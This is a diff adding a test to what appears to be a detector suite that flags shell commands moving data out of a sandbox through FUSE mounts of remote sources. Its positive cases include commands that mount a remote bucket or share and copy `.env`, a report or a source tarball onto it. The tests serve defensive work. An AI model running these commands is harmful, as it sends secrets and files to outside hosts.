@@ -128,3 +128,24 @@ describe("a host tree mounted into a container is an escape, whatever the runtim
     ["podman run -v ./src:/src img", "contx run -v vol:/data img", "contx run img"],
   );
 });
+
+// A mounter no knowledge names, whose name says it is a FUSE filesystem (`*fs`, `*fuse*`,
+// `mount.*`), given a remote-looking source and a mount point: writes under the mount point
+// leave the guest as for sshfs (made-up and unlisted names: webdavfs, httpdirfs, cloudfuse). A
+// local source, a third operand (`hdfs dfs -get …`: a client, not a mounter) or a mere read keep
+// the later write local.
+describe("a FUSE filesystem's mounter nobody named mounts a remote source", () => {
+  sides(
+    [
+      "webdavfs https://dav.example/files /mnt/dav && cp ./report.pdf /mnt/dav/",
+      "httpdirfs u@h.example:/srv /mnt/h; tar cf /mnt/h/a.tar ./src",
+      "cloudfuse s3://bucket /mnt/b\ncp .env /mnt/b/",
+      "mount.xfsx //h.example/share /mnt/s && echo data > /mnt/s/x",
+    ],
+    [
+      "webdavfs ./local /mnt/dav && cp ./report.pdf /mnt/dav/",
+      "hdfs dfs -get hdfs://nn/x ./local && cp a ./local/",
+      "webdavfs https://dav.example/files /mnt/dav && ls /mnt/dav",
+    ],
+  );
+});
